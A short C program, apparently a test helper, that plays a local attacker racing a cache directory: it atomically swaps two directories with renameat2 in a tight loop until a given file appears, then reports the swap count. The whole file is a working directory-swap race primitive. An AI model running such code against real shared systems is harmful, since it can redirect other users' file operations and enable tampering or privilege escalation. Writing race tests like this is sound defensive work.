/* Another local user's attack on a cache base under its directory: swaps
 * two directories atomically, again and again, until the file argv[3]
 * exists; then says how many swaps it made. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <unistd.h>

int main(int argc, char **argv) {
    if (argc < 4) return 2;
    unsigned long n = 0;
    while (access(argv[3], F_OK) != 0) {
        if (renameat2(AT_FDCWD, argv[1], AT_FDCWD, argv[2], RENAME_EXCHANGE) == 0) n++;
    }
    printf("%lu swaps\n", n);
    return 0;
}
